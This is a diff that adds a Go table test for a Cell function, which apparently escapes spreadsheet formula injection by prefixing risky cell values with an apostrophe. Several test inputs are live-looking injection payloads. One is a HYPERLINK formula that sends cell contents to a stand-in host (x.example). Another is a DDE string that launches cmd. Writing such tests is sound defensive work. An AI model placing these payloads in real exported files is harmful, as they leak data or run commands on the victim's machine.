@@ -136,3 +136,26 @@ func FuzzJSON(f *testing.F) {
 		}
 	})
 }
+
+func TestCell(t *testing.T) {
+	for _, tc := range []struct{ in, want string }{
+		{"", ""},
+		{"Fix the cache", "Fix the cache"},
+		{"=HYPERLINK(\"https://x.example/?\"&A1)", "'=HYPERLINK(\"https://x.example/?\"&A1)"},
+		{"+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"},
+		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
+		{"@SUM(1+1)", "'@SUM(1+1)"},
+		{"-1.5", "-1.5"},
+		{"+3", "+3"},
+		{"-2e-3", "-2e-3"},
+		{"-Inf", "'-Inf"},
+		{"-0x1p3", "'-0x1p3"},
+		{"- list item", "'- list item"},
+		{"a=b", "a=b"},
+		{"'quoted", "'quoted"},
+	} {
+		if got := Cell(tc.in); got != tc.want {
+			t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.want)
+		}
+	}
+}
